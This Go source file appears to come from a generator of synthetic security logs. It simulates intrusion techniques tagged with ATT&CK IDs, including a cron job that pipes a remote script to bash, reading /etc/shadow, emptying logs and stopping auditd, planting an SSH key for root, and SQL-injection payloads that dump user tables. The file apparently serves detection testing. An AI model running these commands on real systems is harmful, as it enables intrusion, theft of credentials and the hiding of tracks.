package gen

// footholds are how intruders get in for good, and hide it.
func footholds() []kind {
	return []kind{
		{"new-admin", 1, (*attack).newAdmin},
		{"firewall-admin", 1, (*attack).firewallAdmin},
		{"log-tampering", 1, (*attack).logTampering},
		{"cron-implant", 1, (*attack).cronImplant},
		{"supply-chain", 3, (*attack).supplyChain},
		{"sql-injection", 1, (*attack).sqlInjection},
		{"ssh-key-implant", 1, (*attack).sshKeyImplant},
	}
}

// newAdmin (T1136.001, T1098.007): on a server an account is made that may do everything, and is used from a workstation.
func (a *attack) newAdmin() {
	c, r, u := a.c, a.r, a.victim()
	s, owner := pick(r, c.linux), pick(r, c.admins)
	name := pick(r, []string{"support", "svc-update", "itadmin", "secadmin", "sysbackup"})
	uid := uint64(1900 + r.IntN(90))
	a.step("create")
	at := a.between(0, 23*hour)
	a.login(at, s, owner, u.ip, []string{"/usr/sbin/useradd -m -s /bin/bash " + name, "/usr/sbin/usermod -aG sudo " + name, "/usr/bin/passwd " + name})
	at += minute
	a.q.put(at, s.account(a.q.buf(), at, "useradd", process(r), "new group: name="+name+", GID="+number(uid)))
	a.q.put(at+second/100, s.account(a.q.buf(), at+second/100, "useradd", process(r),
		"new user: name="+name+", UID="+number(uid)+", GID="+number(uid)+", home=/home/"+name+", shell=/bin/bash, from=/dev/pts/0"))
	at += r.span(30*second, 0.3)
	a.q.put(at, s.account(a.q.buf(), at, "usermod", process(r), "add '"+name+"' to group 'sudo'"))
	a.step("use")
	who := user{login: name, uid: uid}
	for range 3 {
		at += r.span(25*minute, 0.5)
		a.login(at, s, &who, u.ip, []string{"/usr/bin/id", "/usr/bin/cat /etc/shadow"})
	}
}

// firewallAdmin (T1190, T1136.001, T1562.004, T1133): the firewall's own console was open to the internet. As reported of CVE-2024-55591: logins by
// jsconsole from addresses that cannot be, a new administrator with a name of random letters, a new user for the VPN, and that user's
// login from a rented host.
func (a *attack) firewallAdmin() {
	c, r := a.c, a.r
	a.step("console")
	at := a.between(0, 18*hour)
	for range r.between(3, 8) {
		a.q.put(at, c.fgt.console(a.q.buf(), at, "admin", pick(r, []addr{ip(127, 0, 0, 1), ip(8, 8, 8, 8), ip(8, 8, 4, 4)})))
		at += r.span(3*minute, 0.6)
	}
	a.step("accounts")
	admin, guest := a.r.letters(6), a.r.letters(6)
	for _, x := range [][3]string{
		{"system.admin", admin, "password[*]accprofile[super_admin]vdom[root]"},
		{"user.local", guest, "type[password]passwd[*]"},
		{"user.group", "VPN-Staff", "member[" + guest + "]"},
		{"firewall.policy", "15", "srcaddr[all]dstaddr[all]service[ALL]"},
	} {
		action := "Add"
		if x[0] == "user.group" || x[0] == "firewall.policy" {
			action = "Edit"
		}
		a.q.put(at, c.fgt.configured(a.q.buf(), r, at, "admin", "jsconsole(127.0.0.1)", action, x[0], x[1], x[2]))
		at += r.span(40*second, 0.5)
	}
	a.step("enter")
	from, where := a.lair()
	c.remote(a.q, r, at+r.span(2*hour, 0.3), &user{login: guest, dept: "VPN-Staff", remote: true}, from, where, 0, hour)
}

// logTampering (T1070.002, T1562.012, T1562.006): on a server the logs are emptied, what writes and sends them is stopped, and for hours nothing comes
// from it; then all is as before.
func (a *attack) logTampering() {
	c, r, u := a.c, a.r, a.victim()
	s := pick(r, c.linux[:len(c.linux)-1]) // not the gateway, whose packets are its kernel's
	a.step("clear")
	at := a.between(0, 20*hour)
	a.login(at, s, pick(r, c.admins), u.ip, []string{
		"/usr/bin/truncate -s 0 /var/log/auth.log", "/usr/bin/truncate -s 0 /var/log/syslog", "/usr/bin/journalctl --rotate", "/usr/bin/journalctl --vacuum-time=1s",
		"/usr/sbin/auditctl -e 0", "/usr/bin/systemctl stop auditd",
	})
	at += 15 * minute
	a.q.put(at, s.systemd(a.q.buf(), at, "Stopping rsyslog.service - System Logging Service..."))
	end := at + r.span(7*hour, 0.3)
	a.silent = append(a.silent, silence{host: s.host, from: at + second, to: end})
	a.step("restore")
	a.q.put(end, s.systemd(a.q.buf(), end, "Starting rsyslog.service - System Logging Service..."))
	a.q.put(end+second/5, s.systemd(a.q.buf(), end+second/5, "Started rsyslog.service - System Logging Service."))
}

// cronImplant (T1053.003, T1105): a job fetches a script from a rented host each quarter of an hour and runs it.
func (a *attack) cronImplant() {
	c, r := a.c, a.r
	s := pick(r, c.linux)
	dst, where := a.lair()
	a.step("implant")
	at := a.between(0, 12*hour)
	c.asRoot(a.q, r, at, s, pick(r, c.admins), "/usr/bin/crontab -u root /tmp/."+a.r.letters(5))
	a.step("run")
	for range 40 {
		at += 15*minute - at%(15*minute) + second
		pid := process(r)
		a.q.put(at, s.opened(a.q.buf(), at, "CRON", pid, "cron", "root", 0, "root", 0))
		a.q.put(at+second/1000, s.cron(a.q.buf(), at+second/1000, pid+1, "root", "curl -fsSL http://"+dst.String()+"/i.sh | bash"))
		a.call(at+second, s.ip, nil, dst, where, 80, "HTTP", 1, 420, 3_000)
		a.q.put(at+3*second, s.ended(a.q.buf(), at+3*second, "CRON", pid, "cron", "root"))
	}
}

// supplyChain (T1195.002, T1071.004, T1568): the monitoring server takes an update of its maker as it always does. A day later it asks for
// names under a domain that nobody knows, each with some letters that say who asks, and then calls a new host a few times a day, as was
// reported of SUNBURST.
func (a *attack) supplyChain() {
	c, r := a.c, a.r
	s := c.servers["mon01"]
	zone := ".appsync-api." + pick(r, []string{"eu-west-1.", "us-east-2."}) + pick(r, webWords) + "cloud.example"
	maker := c.web.invent(r)
	a.step("update")
	at := a.between(4*hour, 10*hour)
	a.beyond(at, s.ip, nil, maker.addr(r), maker.country, "downloads."+maker.name, 443, 30, 4_000, 8e7)
	a.step("names")
	dst, where := a.lair()
	at += 20*hour + r.Int64N(4*hour)
	for range 12 {
		c.resolve(a.q, r, at, s.ip, a.r.letters(r.between(16, 28))+zone, "A", dst+8)
		at += r.span(30*minute, 0.5)
	}
	a.step("control")
	name := a.name()
	for end := a.day + 70*hour; at < end; at += r.span(3*hour, 0.3) {
		a.beyond(at, s.ip, nil, dst, where, name, 443, 5, 9_000, 14_000)
	}
}

// sqlInjection (T1190): one address asks the portal's search for what sqlmap asks: quotes, unions, waits; some answers are errors, some
// take long, the last ones are large.
func (a *attack) sqlInjection() {
	c, r := a.c, a.r
	where := c.web.enemy(r)
	web := c.servers["web01"]
	q := request{client: where.addr(r), method: "GET", agent: pick(r, []string{"sqlmap/1.9.4#stable (https://sqlmap.org)", browsers[1]}), event: "request"}
	tries := []string{
		"'", "%27%20OR%20%271%27=%271", "1%20AND%201=1", "1%20AND%201=2", "%27;WAITFOR%20DELAY%20%270:0:5%27--", "1%20AND%20SLEEP(5)",
		"%27%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--", "1)%20AND%20(SELECT%20pg_sleep(5))--", "%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--",
	}
	a.step("probe")
	at := a.between(0, 22*hour)
	for range 220 {
		q.path = "/applications/search?q=" + pick(r, tries) + "%20" + a.r.letters(4)
		q.status, q.bytes, q.ms = pick(r, []uint64{200, 200, 500, 400}), uint64(r.skewed(9_000, 0.5)), uint64(r.skewed(120, 1))
		a.q.put(at, portal(a.q.buf(), r, at, web.host, &q))
		at += r.span(4*second, 0.6)
	}
	a.step("dump")
	for i := range 40 {
		q.path = "/applications/search?q=%27%20UNION%20ALL%20SELECT%20name,email,NULL%20FROM%20users%20LIMIT%20100%20OFFSET%20" + number(uint64(100*i)) + "--"
		q.status, q.bytes, q.ms = 200, uint64(r.skewed(90_000, 0.2)), uint64(r.skewed(700, 0.4))
		a.q.put(at, portal(a.q.buf(), r, at, web.host, &q))
		at += r.span(3*second, 0.5)
	}
}

// sshKeyImplant (T1098.004, T1078.003): an intruder with an administrator's session leaves a key of his own for root on a server, and comes back
// with it at night, from the portal's server.
func (a *attack) sshKeyImplant() {
	c, r := a.c, a.r
	s, owner, web := pick(r, c.linux), pick(r, c.admins), c.servers["web01"]
	a.step("implant")
	at := a.between(9*hour, 18*hour)
	c.asRoot(a.q, r, at, s, owner, "/usr/bin/tee -a /root/.ssh/authorized_keys")
	a.step("return")
	root := user{login: "root", key: "SHA256:" + fingerprint(r)}
	at = a.between(22*hour, 24*hour)
	for range r.between(2, 4) {
		a.within(at, web.ip, nil, s.ip, 22, "SSH", 400, 20_000, 90_000)
		c.shell(a.q, r, at, s, &root, web.ip, nil, r.span(8*minute, 0.4))
		at += r.span(15*minute, 0.5)
	}
}
